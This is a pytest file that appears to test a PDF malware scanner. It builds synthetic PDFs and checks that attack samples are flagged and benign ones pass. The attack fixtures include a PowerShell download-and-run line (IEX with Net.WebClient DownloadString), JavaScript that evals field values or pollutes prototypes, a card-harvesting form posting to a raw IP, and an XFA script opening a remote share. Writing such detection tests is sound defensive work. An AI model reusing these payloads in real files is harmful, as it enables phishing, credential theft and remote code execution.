"""What a PDF carries, what stands around it, what its scripts change and its forms ask: told by what it does."""

from __future__ import annotations

import pytest
from examine_pdfs import numbered

from safecare.examine.api import Verdicts
from safecare.examine.engine import Engine

ENGINE = Engine()
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]%s>>"


def stream(keys: bytes, data: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (keys, len(data), data)


def pdf(catalog: bytes = b"", page: bytes = b"", **more: bytes) -> bytes:
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: PAGE % page,
    } | {int(name[1:]): value for name, value in more.items()}
    return numbered(objects)


def carrying(name: bytes, data: bytes) -> bytes:
    names = b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>"
    spec = b"<</Type/Filespec/F(%s)/UF(%s)/EF<</F 5 0 R>>>>" % (name, name)
    return pdf(names, _4=spec, _5=stream(b"/Type/EmbeddedFile", data))


def script(text: bytes) -> bytes:
    return pdf(b"/OpenAction<</S/JavaScript/JS<%s>>>>" % text.hex().encode())


def form(target: bytes, words: bytes) -> bytes:
    button = b"<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 9 9]/A<</S/SubmitForm/F<</FS/URL/F(%s)>>>>>>" % target
    drawn = stream(b"", b"BT /F 12 Tf 60 700 Td (" + words + b") Tj ET")
    return pdf(b"/AcroForm<</Fields[4 0 R]>>", b"/Contents 5 0 R/Annots[4 0 R]", _4=button, _5=drawn)


def xfa(event: bytes) -> bytes:
    form_ = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>%s</subform></template></xdp:xdp>' % event
    )
    return pdf(b"/AcroForm<</Fields[]/XFA 4 0 R>>", _4=stream(b"", form_))


PLAIN = pdf()
ATTACKS = {
    "a page that leads on": carrying(b"index.html", b'<html><script>location="https://a.example"</script></html>'),
    "a page that asks": carrying(b"bill.html", b"<html><form><input type=password></form></html>"),
    "a drive": carrying(b"bill.iso", b"\0" * 40_000),
    "notes with files": carrying(b"note.one", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 400),
    "commands before it": b"@echo off\r\npowershell -w h x\r\nexit /b\r\n" + PLAIN,
    "commands behind it": PLAIN + b"\r\n#>\r\nIEX (New-Object Net.WebClient).DownloadString('a')\r\n",
    "text of fields is run": script(b'var q=this.getField("x").value;(0,eval)(q);'),
    "objects of the reader are changed": script(b'Object.prototype.__defineGetter__("cPath",function(){return 1});'),
    "a card for someone unknown": form(b"http://45.9.1.2/x", b"Card number and CVV"),
    "a form calls a share": xfa(
        b'<event activity="docReady"><script contentType="application/x-formcalc">'
        b'$host.gotoURL("\\\\1.2.3.4\\a")</script></event>'
    ),
    "a form shows another's picture": xfa(b'<draw><value><image href="http://a.example/i.png"/></value></draw>'),
}
HONEST = {
    "nothing": PLAIN,
    "data": carrying(b"data.csv", b"a;b\n1;2\n"),
    "a page of words": carrying(
        b"read.html", b"<html><h1>Read this</h1><p>The data were taken in May 2026.</p></html>"
    ),
    "an empty line around": b"\r\n" + PLAIN + b"\r\n\0\0",
    "a field is reckoned with": script(b'var q=this.getField("x").value;event.value=q*2;'),
    "a form to an office": form(b"https://www.service-public.fr/submit", b"Name and date of birth"),
    "a form with a picture": xfa(b"<draw><value><image contentType='image/png'>AAAA</image></value></draw>"),
}


@pytest.mark.parametrize("raw", ATTACKS.values(), ids=ATTACKS)
def test_what_it_carries_and_does_is_told(raw: bytes) -> None:
    assert ENGINE.judge(raw, "a.pdf").verdict in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS)


@pytest.mark.parametrize("raw", HONEST.values(), ids=HONEST)
def test_what_papers_carry_and_do_is_not(raw: bytes) -> None:
    assert ENGINE.judge(raw, "a.pdf").verdict is Verdicts.CLEAN
